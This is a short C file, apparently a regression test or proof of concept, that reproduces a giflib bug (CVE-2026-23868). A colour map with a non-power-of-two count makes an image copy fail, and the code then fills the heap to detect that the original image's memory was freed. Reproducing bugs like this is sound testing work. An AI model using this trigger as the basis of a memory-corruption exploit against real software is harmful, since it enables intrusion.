/* CVE-2026-23868: the copy of an image fails; the original is what it was. */
#include <gif_lib.h>
#include <stdlib.h>
#include <string.h>

static void *volatile got; /* compilers leave out what nobody has */

int attempt(void)
{
    GifFileType file = {0};
    SavedImage original = {0};
    original.RasterBits = malloc(64);
    memset(original.RasterBits, 7, 64);
    original.ImageDesc.Width = original.ImageDesc.Height = 8;
    original.ImageDesc.ColorMap = GifMakeMapObject(4, NULL);
    original.ImageDesc.ColorMap->ColorCount = 3; /* no power of 2 */
    if (GifMakeSavedImage(&file, &original))
        return 0;
    for (int i = 0; i < 16; i++) /* whoever gets the original's memory now */
        memset(got = malloc(64), 0x55, 64);
    return original.RasterBits[40] == 7;
}
